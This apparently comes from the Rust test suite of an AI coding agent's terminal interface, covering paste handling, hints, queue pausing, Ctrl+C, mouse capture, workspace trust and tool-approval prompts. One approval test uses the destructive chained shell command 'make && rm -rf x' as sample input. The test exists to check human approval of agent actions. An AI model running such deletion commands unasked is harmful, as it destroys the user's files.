    let workspace = tempfile::tempdir().unwrap();
    let cwd = workspace.path().display().to_string();
    let mut app = App::new(Instant::now());
    app.apply(event(json!({"type":"session.started","request_id":"s","session_id":S,"cwd":cwd,"model":"m",
        "context_max_tokens":1000,"max_server_frame_bytes":8388608,"max_transcript_bytes":8388608,
        "max_transcript_items":10000,"max_prompt_history_bytes":1048576,"max_prompt_history_items":200})));
    let pasted = "a line of a long log\n".repeat(60_000); // 1.2 MiB
    app.on_paste(&pasted);
    assert!(key(&mut app, KeyCode::Enter).is_empty(), "nothing is sent");
    let hint = app.hint.clone().unwrap();
    assert!(
        hint.contains("this message is 1.2 MiB; a prompt can be at most 256 KiB"),
        "{hint}"
    );
    assert_eq!(app.input.text().len(), pasted.len(), "the text stays");

    let out = sent(&key(&mut app, KeyCode::Enter));
    let [ClientMessage::TurnStart(TurnStart { prompt, .. })] = &out[..] else {
        panic!("{out:?}");
    };
    assert!(prompt.len() < 200, "{prompt}");
    let name = prompt
        .split('`')
        .nth(1)
        .expect("the message names the file");
    assert!(name.starts_with(".scv/pastes/paste-"), "{prompt}");
    assert_eq!(
        std::fs::read_to_string(workspace.path().join(name)).unwrap(),
        pasted
    );
    assert_eq!(
        std::fs::read_to_string(workspace.path().join(".scv/pastes/.gitignore")).unwrap(),
        "*\n"
    );
    assert!(app.input.text().is_empty());
}

/// Hints end with what they are about: "press Ctrl+C again" with its
/// window, "no rule: …" with the turn.
#[test]
fn hints_end_with_their_reason() {
    let mut app = app();
    press(&mut app, KeyCode::Char('c'), KeyModifiers::CONTROL);
    assert_eq!(app.hint.as_deref(), Some("press Ctrl+C again to quit"));
    assert!(!app.expire_hint(app.now + Duration::from_millis(500)));
    assert!(app.expire_hint(app.now + Duration::from_secs(2)));
    assert_eq!(app.hint, None);

    start_turn(&mut app);
    app.apply(event(json!({"type":"tool.proposed","request_id":"r","session_id":S,"turn_id":"t1","seq":2,"call_id":"c","name":"bash","arguments":{"command":"make && rm -rf x"}})));
    app.apply(event(json!({"type":"approval.requested","request_id":"r","session_id":S,"turn_id":"t1","seq":3,"approval_id":"a1","call_id":"c","name":"bash","risk":"process","cwd":"/w","summary":"Run shell command: make && rm -rf x"})));
    app.now += Duration::from_secs(1);
    key(&mut app, KeyCode::Char('2'));
    assert!(
        app.hint.as_deref().unwrap().starts_with("no rule"),
        "{:?}",
        app.hint
    );
    // Time alone does not take it; the turn's end does.
    assert!(!app.expire_hint(app.now + Duration::from_secs(60)));
    app.apply(event(json!({"type":"turn.completed","request_id":"r","session_id":S,"turn_id":"t1","seq":4,"steps":1})));
    assert_eq!(app.hint, None);
}

/// Esc during a turn with prompts queued pauses the queue before the
/// cancel goes (they would start at once otherwise), says so, and Enter
/// on an empty box resumes it.
#[test]
fn a_cancel_pauses_the_queue_and_enter_resumes_it() {
    let mut app = app();
    start_turn(&mut app);
    app.apply(event(
        json!({"type":"queue.enqueued","request_id":"q","session_id":S,"seq":2,
        "entry":{"queue_id":"q1","revision":1,"prompt":"next","submitter":"client"},"position":0}),
    ));
    let out = sent(&key(&mut app, KeyCode::Esc));
    assert_eq!(
        out[0],
        ClientMessage::SessionPause(SessionPause {
            session_id: S.into(),
            paused: true
        })
    );
    assert!(
        matches!(out[1], ClientMessage::TurnCancel(_)),
        "then the cancel: {out:?}"
    );
    assert!(app.queue.paused());
    let notice = app
        .transcript
        .items()
        .iter()
        .any(|item| matches!(&item.kind, ItemKind::Notice(n) if n.starts_with("queue paused after the cancel")));
    assert!(notice);
    app.apply(event(
        json!({"type":"turn.cancelled","request_id":"r","session_id":S,"turn_id":"t1","seq":3}),
    ));
    assert_eq!(
        sent(&key(&mut app, KeyCode::Enter)),
        [ClientMessage::SessionPause(SessionPause {
            session_id: S.into(),
            paused: false
        })]
    );
    assert!(!app.queue.paused());
    // Without a queue, a cancel is only a cancel.
    let mut app = self::app();
    start_turn(&mut app);
    let out = sent(&key(&mut app, KeyCode::Esc));
    assert!(
        matches!(&out[..], [ClientMessage::TurnCancel(_)]),
        "{out:?}"
    );
}

/// Mouse capture is off by default (text selects as in any terminal);
/// Ctrl+T turns it on and off, and says what each means.
#[test]
fn ctrl_t_toggles_mouse_capture() {
    let mut app = app();
    assert!(!app.mouse);
    press(&mut app, KeyCode::Char('t'), KeyModifiers::CONTROL);
    assert!(app.mouse && app.mouse_changed);
    assert!(app.hint.as_deref().unwrap().starts_with("mouse capture on"));
    app.mouse_changed = false;
    press(&mut app, KeyCode::Char('t'), KeyModifiers::CONTROL);
    assert!(!app.mouse && app.mouse_changed);
    assert!(app.hint.as_deref().unwrap().contains("select text freely"));
}

/// A message that starts with a digit, typed while a call waits with the
/// box empty and the prompt armed: the digit only picks an option, and the
/// next character shows it was prose — both go into the box, and nothing
/// is answered ("3 tests fail" once denied the call, "1. also…" approved).
#[test]
fn a_message_that_starts_with_a_digit_answers_nothing() {
    for text in [
        "3 tests fail, fix them",
        "1. also add a docstring",
        "2x faster",
    ] {
        let mut app = app();
        start_turn(&mut app);
        request_approval(&mut app, "Run shell command: ls");
        app.now += Duration::from_secs(2);
        for c in text.chars() {
            assert!(key(&mut app, KeyCode::Char(c)).is_empty(), "{text}");
            app.now += Duration::from_millis(150);
        }
        assert_eq!(app.input.text(), text, "the text lands in the box");
        assert_eq!(app.approval.len(), 1, "{text}: still waiting");
    }
    // A digit, then Enter: that is a choice.
    let mut app = app();
    start_turn(&mut app);
    request_approval(&mut app, "Run shell command: ls");
    app.now += Duration::from_secs(2);
    assert!(key(&mut app, KeyCode::Char('3')).is_empty());
    assert_eq!(sent(&key(&mut app, KeyCode::Enter)), resolved(false));
}

/// A session opened in a workspace whose repository configuration is not
/// trusted asks once, listing what trusting enables; `y` sends
/// `workspace.trust`, and the answer is said; `n` leaves it.
#[test]
fn an_untrusted_repository_is_asked_about_once_and_y_trusts_it() {
    use scv_tui::tui::overlay::OverlayKind;
    let started = |app: &mut App| {
        app.apply(event(json!({"type":"session.started","request_id":"s","session_id":S,"cwd":"/w/repo","model":"m",
            "context_max_tokens":1000,"max_server_frame_bytes":8388608,"max_transcript_bytes":8388608,
            "max_transcript_items":10000,"max_prompt_history_bytes":1048576,"max_prompt_history_items":200,
            "config_warnings":["/w/repo is not a trusted workspace, so SCV does not use its .scv/hooks.json"],
            "trust":{"workspace":"/w/repo","trusted":false,"files":[
                {"path":".scv/hooks.json","state":"untrusted","enables":["hooks: SessionStart (1)"]}]}})));
    };
    let mut app = App::new(Instant::now());
    started(&mut app);
    let open = app.overlay.as_ref().expect("the trust prompt");
    assert!(matches!(open.kind, OverlayKind::Trust(_)));
    let out = key(&mut app, KeyCode::Char('y'));
    assert!(app.overlay.is_none());
    match sent(&out).as_slice() {
        [ClientMessage::WorkspaceTrust(request)] => assert_eq!(request.session_id, S),
        other => panic!("{other:?}"),
    }
    app.apply(event(
        json!({"type":"workspace.trusted","request_id":"x","session_id":S,
        "workspace":"/w/repo","trusted":true,"files":[
            {"path":".scv/hooks.json","state":"trusted","enables":["hooks: SessionStart (1)"]}]}),
    ));
    let notices: Vec<&str> = app
        .transcript
        .items()
        .iter()
        .filter_map(|item| match &item.kind {
            ItemKind::Notice(text) => Some(text.as_str()),
            _ => None,
        })
        .collect();
    assert!(
        notices
            .iter()
            .any(|n| n.contains("trusted /w/repo: .scv/hooks.json")),
        "{notices:?}"
    );

    let mut app = App::new(Instant::now());
    started(&mut app);
    let out = key(&mut app, KeyCode::Char('n'));
    assert!(app.overlay.is_none());
    assert!(sent(&out).is_empty());
}

/// Ctrl+C with a draft in the box clears the box first (↑ brings it
/// back), cancelling nothing and arming no quit; then two presses quit.
#[test]
fn ctrl_c_with_a_draft_clears_the_box_first() {
    let mut app = app();
    start_turn(&mut app);
    let draft = "a long prompt I was still writing, ".repeat(8);
    type_text(&mut app, &draft);
    let out = press(&mut app, KeyCode::Char('c'), KeyModifiers::CONTROL);
    assert!(sent(&out).is_empty(), "nothing cancelled: {out:?}");
    assert_eq!(app.input.text(), "");
    assert_eq!(
        app.hint.as_deref(),
        Some("input cleared (↑ brings it back)")
    );
    app.now += Duration::from_millis(200);
    // The next press is the first of the usual two: it cancels the turn.
    let out = press(&mut app, KeyCode::Char('c'), KeyModifiers::CONTROL);
    assert!(
        matches!(sent(&out)[..], [ClientMessage::TurnCancel(_)]),
        "{out:?}"
    );
    assert!(!app.should_quit);
    app.now += Duration::from_millis(200);
    assert_eq!(
        press(&mut app, KeyCode::Char('c'), KeyModifiers::CONTROL),
        [Outgoing::Quit]
    );
    let mut app = self::app();
    type_text(&mut app, &draft);
    press(&mut app, KeyCode::Char('c'), KeyModifiers::CONTROL);
    key(&mut app, KeyCode::Up);
    assert_eq!(app.input.text(), draft);
}

/// A cancelled turn leaves no card "awaiting approval" or "running": each
/// says it stopped, and no approval prompt stays.
#[test]
fn a_cancelled_turn_settles_its_open_cards() {
    use scv_tui::tui::transcript::ToolState;
    let mut app = app();
    start_turn(&mut app);
    request_approval(&mut app, "Run shell command: ls");
    app.apply(event(json!({"type":"tool.proposed","request_id":"r","session_id":S,"turn_id":"t1","seq":4,"call_id":"d","name":"bash","arguments":{"command":"sleep 9"}})));
    app.apply(event(json!({"type":"tool.started","request_id":"r","session_id":S,"turn_id":"t1","seq":5,"call_id":"d","name":"bash"})));
    app.apply(event(
        json!({"type":"turn.cancelled","request_id":"r","session_id":S,"turn_id":"t1","seq":6}),
    ));
    let states: Vec<ToolState> = app
        .transcript
        .items()
        .iter()
        .filter_map(|item| match &item.kind {
            ItemKind::Tool(card) => Some(card.state),
            _ => None,
        })
        .collect();
    assert_eq!(states, [ToolState::Stopped, ToolState::Stopped]);
    assert!(app.approval.is_empty());
}
